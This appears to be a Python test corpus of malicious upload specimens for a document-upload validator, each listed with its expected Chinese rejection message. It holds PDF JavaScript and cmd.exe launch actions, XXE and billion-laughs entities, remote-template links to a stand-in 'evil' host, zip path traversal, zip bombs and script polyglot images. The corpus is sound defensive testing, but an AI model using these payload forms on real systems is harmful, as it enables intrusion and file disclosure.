"""The corpus of hostile files: name, bytes, and a word of the sentence each must get."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from tests.matters import specimens as s

MACRO = "宏"
RUNS = "脚本或者可自动执行"
CARRIES = "夹带其他文件"
ALIEN = "不是"
KIND = "不能上传这种文件"
BROKEN = "已损坏或者格式不正确"
TAIL = "夹带其他内容"
SECRET = "涉密文件不得在本系统处理"
DTD = "外部实体声明"
JS = "/S /JavaScript /JS (app.alert\\(1\\))"
DOCTYPE = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/hostname">]><w>&x;</w>'
LAUGHS = '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>'


def object_stream(content: bytes) -> bytes:
    """Write a PDF that keeps an object inside a compressed stream, where eyes do not look."""
    body = b"7 0 " + content
    packed = zlib.compress(body)
    parts = s.pdf().split(b"xref\n")[0]
    at8, stream8 = (
        len(parts),
        (
            b"8 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\n"
            b"stream\n%b"
            b"\nendstream\nendobj\n" % (len(packed), packed)
        ),
    )
    rows = [(0, 0, 65535)]
    rows += [(1, parts.index(b"%d 0 obj" % n), 0) for n in range(1, 7)]
    rows += [(2, 8, 0), (1, at8, 0), (1, at8 + len(stream8), 0)]
    table = zlib.compress(b"".join(struct.pack(">BIH", *row) for row in rows))
    xref = (
        b"9 0 obj\n<< /Type /XRef /Size 10 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode "
        b"/Length %d >>\nstream\n%b\nendstream\nendobj\n" % (len(table), table)
    )
    start = at8 + len(stream8)
    return parts + stream8 + xref + b"startxref\n%d\n%%%%EOF\n" % start


def encrypted_pdf() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer, out = PdfWriter(clone_from=PdfReader(io.BytesIO(s.pdf()))), io.BytesIO()
    writer.encrypt("secret", algorithm="RC4-128")
    writer.write(out)
    return out.getvalue()


def bomb() -> bytes:
    return s.package(word__media=b"\0" * 20_000_000)


def crowd() -> bytes:
    return s.package(**{f"word__p{n}.xml": "<a/>" for n in range(2_100)})


def nested(levels: int) -> bytes:
    return s.package(**{"word__deep.xml": "<a>" * levels + "</a>" * levels})


def lying() -> bytes:
    """Declare a part smaller than it is."""
    data = s.package(**{"word__big.xml": "<a>" + "b" * 5_000 + "</a>"})
    return data.replace(struct.pack("<I", 5_007), struct.pack("<I", 40))


def sealed() -> bytes:
    """Mark the parts of an archive as encrypted."""
    data = bytearray(s.package())
    for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(sign)
        while at >= 0:
            data[at + place] |= 1
            at = data.find(sign, at + 4)
    return bytes(data)


def doubled() -> bytes:
    out = io.BytesIO(s.package())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("WORD/DOCUMENT.XML", "<other/>")
    return out.getvalue()


def quine_like() -> bytes:
    """A zip that holds a zip and calls itself a document."""
    return s.zipped({"r.zip": s.zipped({"r.zip": b"x"})})


CORPUS: list[tuple[str, bytes, str]] = [
    # names and types that lie
    ("空.pdf", b"", "文件是空的"),
    ("请示.pdf.exe", s.pdf(), KIND),
    ("请示\u202efdp.exe", b"MZ" + b"\0" * 64, KIND),
    ("请示.exe", b"MZ" + b"\0" * 64, KIND),
    ("请示", s.pdf(), KIND),
    (".pdf", s.pdf(), KIND),
    ("../../../", s.pdf(), "文件名无效"),
    ("\u202e\u200b", s.pdf(), "文件名无效"),
    ("页面.html", b"<script>alert(1)</script>", KIND),
    ("图.svg", b"<svg onload='alert(1)'/>", KIND),
    ("宏.docm", s.package(), KIND),
    ("压缩.zip", s.zipped({"a": "b"}), KIND),
    ("请示.pdf:evil.exe", s.pdf(), KIND),
    ("请示.pdf\x00.php", s.pdf(), KIND),
    ("html.pdf", b"<html><script>alert(1)</script>%PDF-1.7", ALIEN),
    ("前缀.pdf", b"<html>" + s.pdf(), ALIEN),
    ("exe.docx", b"MZ" + b"\0" * 300, ALIEN),
    ("旧.docx", s.compound("WordDocument"), ALIEN),
    ("新.doc", s.package(), ALIEN),
    ("pdf.docx", s.pdf(), ALIEN),
    ("png.jpg", s.picture("PNG"), ALIEN),
    ("ff.pdf", b"\xff" * 4096, ALIEN),
    ("ff.png", b"\xff" * 4096, ALIEN),
    # pdf
    ("脚本.pdf", s.pdf(catalog=f"/OpenAction << {JS} >>"), RUNS),
    ("转义脚本.pdf", s.pdf(catalog="/OpenAction << /S /J#61vaScript /J#53 (1) >>"), RUNS),
    (
        "名树脚本.pdf",
        s.pdf(catalog=f"/Names << /JavaScript << /Names [(a) << {JS} >>] >> >>"),
        RUNS,
    ),
    ("无人引用的脚本.pdf", s.pdf(f"<< {JS} >>"), RUNS),
    ("压缩对象里的脚本.pdf", object_stream(f"<< {JS} >>".encode()), RUNS),
    ("启动程序.pdf", s.pdf(catalog="/OpenAction << /S /Launch /F (cmd.exe) >>"), RUNS),
    ("间接动作.pdf", s.pdf("/Launch", catalog="/OpenAction << /S 7 0 R /F (cmd.exe) >>"), RUNS),
    ("页面动作.pdf", s.pdf(page="/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>"), RUNS),
    ("表单脚本.pdf", s.pdf(catalog="/AcroForm << /XFA [(a) 7 0 R] >>"), RUNS),
    (
        "提交.pdf",
        s.pdf(page="/Annots [<< /Subtype /Link /A << /S /SubmitForm /F (http://a) >> >>]"),
        RUNS,
    ),
    ("多媒体.pdf", s.pdf(page="/Annots [<< /Type /Annot /Subtype /RichMedia >>]"), RUNS),
    (
        "附件.pdf",
        s.pdf(
            "<< /Type /EmbeddedFile /Length 0 >>\nstream\n\nendstream",
            catalog="/Names << /EmbeddedFiles << /Names [(a) 7 0 R] >> >>",
        ),
        CARRIES,
    ),
    ("附件注.pdf", s.pdf(page="/Annots [<< /Subtype /FileAttachment /FS << /EF << >> >> >>]"), ""),
    ("加密.pdf", encrypted_pdf(), "已加密"),
    ("接压缩包.pdf", s.pdf() + s.zipped({"a": "b"}), TAIL),
    ("截断.pdf", s.pdf()[:-60], TAIL),
    (
        "无页.pdf",
        s.assemble([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]),
        "没有页面",
    ),
    ("自引用.pdf", s.pdf().replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]"), ""),
    ("深层.pdf", s.pdf("[" * 5_000 + "]" * 5_000), ""),
    ("乱码.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 20 + b"\n%%EOF", ""),
    # office packages
    ("炸弹.docx", bomb(), "压缩比异常"),
    ("人海.docx", crowd(), "个部分"),
    ("深层.docx", nested(600), "层次过深"),
    ("极深.docx", nested(1_000_000), "压缩比异常"),
    ("谎报.docx", lying(), BROKEN),
    ("加密.docx", sealed(), "已加密"),
    ("重名.docx", doubled(), "重名"),
    ("套娃.docx", quine_like(), ALIEN),
    ("越界.docx", s.package(**{"../../etc/cron.d/x": "a"}), "路径不正确"),
    ("反斜杠.docx", s.package(**{"..\\x": "a"}), "路径不正确"),
    ("宏.docx", s.package(word__vbaProject=b"", **{"word__vbaProject.bin": b"x"}), MACRO),
    (
        "宏类型.docx",
        s.package(
            **{
                "[Content_Types].xml".replace("/", "__"): (
                    f'<Types xmlns="{s.TYPES}"><Override PartName="/word/document.xml" ContentType='
                    '"application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
                )
            }
        ),
        MACRO,
    ),
    ("宏表.xlsx", s.package("xlsx", **{"xl__macrosheets__sheet1.xml": "<a/>"}), MACRO),
    ("控件.docx", s.package(**{"word__activeX__activeX1.bin": b"x"}), MACRO),
    ("外部实体.docx", s.package(**{"word__x.xml": DOCTYPE}), DTD),
    ("十亿笑.xlsx", s.package("xlsx", **{"xl__x.xml": LAUGHS}), DTD),
    ("UTF16实体.docx", s.package(**{"word__x.xml": DOCTYPE.encode("utf-16")}), DTD),
    ("关系实体.docx", s.package(**{"word___rels__x.rels": DOCTYPE}), DTD),
    (
        "外部模板.docx",
        s.package(
            **{
                "word___rels__settings.xml.rels": s.relation(
                    "attachedTemplate", "http://evil/t.dotm"
                )
            }
        ),
        "外部模板",
    ),
    (
        "外部对象.docx",
        s.package(**{"word___rels__document.xml.rels": s.relation("oleObject", "file://evil/x")}),
        "外部模板",
    ),
    (
        "外部图片.docx",
        s.package(
            **{"word___rels__document.xml.rels": s.relation("image", "http://evil/pixel.png")}
        ),
        "外部模板",
    ),
    ("夹程序.docx", s.package(**{"word__embeddings__a.exe": b"MZ"}), "夹带程序"),
    ("接内容.docx", s.package() + b"<script>", TAIL),
    ("前接包.docx", s.zipped({"a.exe": "x"}) + s.package(), TAIL),
    ("坏XML.docx", s.package(**{"word__x.xml": "<a><b></a>"}), BROKEN),
    ("截断.docx", s.package()[:-30], BROKEN),
    ("表冒充文.docx", s.package("xlsx"), ALIEN),
    ("非ofd.ofd", s.package(), ALIEN),
    # old office files
    ("宏.doc", s.compound("WordDocument", "Macros", "_VBA_PROJECT"), MACRO),
    ("宏.xls", s.compound("Workbook", "_VBA_PROJECT_CUR"), MACRO),
    ("加密.xls", s.compound("EncryptedPackage", "EncryptionInfo"), "已加密"),
    ("安装包.doc", s.compound("Property", "SummaryInformation"), ALIEN),
    ("表冒充文.doc", s.compound("Workbook"), ALIEN),
    ("只有头.doc", s.compound("WordDocument")[:520], BROKEN),
    (
        "回环.doc",
        s.compound("WordDocument").replace(
            struct.pack("<II", 0xFFFFFFFD, 0xFFFFFFFE), struct.pack("<II", 0xFFFFFFFD, 1)
        ),
        BROKEN,
    ),
    # pictures
    ("巨图.png", s.huge_png(), "5000 万像素"),
    ("截断.png", s.picture("PNG")[:-20], "尾部夹带"),
    ("接包.png", s.picture("PNG") + s.zipped({"a": "b"}), "尾部夹带"),
    ("坏块.png", s.picture("PNG").replace(b"IDAT", b"IDAX"), BROKEN),
    ("脚本.gif", b"GIF89a/*" + b"\0" * 20 + b"*/=1;//<script>alert(1)</script>;", "程序代码"),
    ("假.gif", b"GIF89a=alert(1);", BROKEN),
    ("网页.jpg", b"\xff\xd8\xff\xe0<html><script>alert(1)</script>", "程序代码"),
    ("假.jpg", b"\xff\xd8\xff\xe0" + b"\0" * 200, BROKEN),
    # text
    ("含NUL.txt", b"abc\0def", "不是文本"),
    ("转义.txt", b"\x1b[2J", "不是文本"),
    ("UTF16.txt", "说明".encode("utf-16"), ""),
    ("二进制.csv", bytes(range(256)), ""),
    # classified
    ("密.txt", "机密★1年\n关于……".encode(), SECRET),
    ("密.csv", "绝密 ★ 长期,1".encode("gb18030"), SECRET),
    ("密.docx", s.package(words="秘密★"), SECRET),
    ("密.ofd", s.ofd("机密★10年"), SECRET),
    ("密.pdf", s.marked_pdf("机密★"), SECRET),
    ("密.doc", s.compound("WordDocument", body="绝密★".encode("utf-16-le")), SECRET),
    ("机密★1年.pdf", s.pdf(), SECRET),
]
